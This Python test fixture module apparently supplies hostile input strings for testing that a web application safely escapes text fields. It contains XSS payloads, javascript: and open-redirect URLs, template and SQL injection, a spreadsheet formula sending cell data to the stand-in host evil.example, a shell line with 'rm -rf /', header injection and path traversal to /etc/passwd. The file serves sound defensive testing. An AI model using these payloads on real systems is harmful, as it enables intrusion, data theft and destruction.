"""Texts for every field that a person can read: title, reason, label, name, value, tag."""

from __future__ import annotations

PWN = "window.__pwned=1"
EVIL = "https://evil.example"
SIGNED = f"{EVIL}/v1/artifacts/a_9/content?expiry=1&kid=k&sig=s3cret"

MARKUP = {
    "script": f"<script>{PWN}</script>",
    "script that ends another": f"</script><script>{PWN}</script>",
    "script in capitals": f"<ScRiPt >{PWN}</sCrIpT>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "image that fails": f"<img src=x onerror={PWN}>",
    "image from elsewhere": f"<img src='{EVIL}/x.png'>",
    "vector image": f"<svg onload={PWN}><script>{PWN}</script></svg>",
    "animation": f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    "frame": f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    "object": f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/y'>",
    "base": f"<base href='{EVIL}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "sheet": f"<link rel=stylesheet href='{EVIL}/x.css'><style>@import '{EVIL}/y.css'</style>",
    "form": f"<form action='{EVIL}'><button autofocus onfocus={PWN}>Log in</button></form>",
    "details": f"<details open ontoggle={PWN}>x</details>",
    "end of what it stands in": f"</textarea></title></pre></td></code><script>{PWN}</script>",
    "comment": f"<!--><script>{PWN}</script>-->",
    "CDATA": f"<![CDATA[><script>{PWN}</script>]]>",
    "other quotes": f'"><script>{PWN}</script>',
    "attribute": f"\" onmouseover='{PWN}' x=\"",
    "attribute in single quotes": f"' onmouseover={PWN} x='",
    "attribute of htmx": f'" hx-get="{EVIL}" hx-trigger="load" x="',
    "element of htmx": f"<div hx-get='{EVIL}' hx-trigger='load' hx-on:click='{PWN}'>x</div>",
    "entities": f"&lt;script&gt;{PWN}&lt;/script&gt;",
    "numbered entities": f"&#60;script&#62;{PWN}&#60;/script&#62;",
    "no end": f"<script {PWN} //",
    "math": f"<math><mi xlink:href='javascript:{PWN}'>x</mi></math>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
}
ADDRESSES = {
    "script address": f"javascript:{PWN}//",
    "script address with a break in it": f"java\nscript:{PWN}",
    "script address in other letters": f"JaVaScRiPt\t:{PWN}",
    "data address": f"data:text/html,<script>{PWN}</script>",
    "blob address": f"blob:{EVIL}/0b5",
    "file address": "file:///etc/passwd",
    "address without a scheme": "//evil.example/x",
    "address with a name in it": f"https://admin:s3cret@evil.example/{PWN}",
    "signed address": SIGNED,
    "address of our own": "/logout/?next=//evil.example",
}
LETTERS = {
    "another direction": "\u202egnp.exe\u202c \u2067abc\u2069 \u200f",
    "direction without end": "\u202e" * 50 + "abc",
    "nothing to be seen": "a\u200b\u200c\u200d\u2060\ufeffb\u00ad",
    "only nothing": "\u200b\u2060\u3164",
    "controls": "\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\u2028\u2029",
    "NUL": f"a\x00b<scr\x00ipt>{PWN}</script>",
    "half characters": "a\ud800b\udfff",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
    "marks upon marks": "Z" + "\u0300\u0336\u0489" * 2_000,
    "letters that look like others": "\u0430dmin \u0455kyvern \uff1cscript\uff1e",
    "private and unassigned": "\ue000\ufdd0\U0010ffff\U000e0041",
    "line breaks": "a\r\nb\rc\n\n\n" * 200,
    "only spaces": " \t\u00a0\u3000" * 100,
    "folds to more": "ßİﬃ" * 500,
}
SIZES = {
    "a megabyte": "x" * 2**20,
    "a megabyte of markup": "<b>" * (2**20 // 3),
    "a megabyte of lines": "a\n" * 2**19,
    "a megabyte of addresses": "https://a?" * (2**20 // 10),
    "a megabyte of quotes": "'\"" * 2**19,
}
LANGUAGES = {
    "template": "{{ settings.SECRET_KEY }}{% debug %}{% include '/etc/passwd' %}{# #}",
    "template of another kind": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "template that breaks off": "{{ {% }} %}",
    "placeholders": "%s %d %(x)s %n {0} {x!r} {0.__class__} \\1",
    "SQL": "'; DROP TABLE runs_run; --",
    "SQL wildcards": "%_\\%'\"",
    "full text": '" OR * NEAR( AND NOT {title}:',
    "formula": "=cmd|'/c calc'!A0",
    "formula that sends": f'=HYPERLINK("{EVIL}?"&A1,"x")',
    "formulas of other kinds": "@SUM(1)\n+1\n-1+1",
    "formula behind a tab": "\t=1+1",
    "formula in wide letters": "\uff1d1+1",
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf / | cat",
    "header": f"x\r\nSet-Cookie: a=b\r\nLocation: {EVIL}\r\n\r\n<script>{PWN}</script>",
    "path": "../../../../etc/passwd\\..\\..",
    "JSON": f'"}}]}}</script><script>{PWN}</script>',
    "number": "1e400",
    "prototype": "__proto__",
    "word of ours": "None",
}
TEXTS = MARKUP | ADDRESSES | LETTERS | SIZES | LANGUAGES
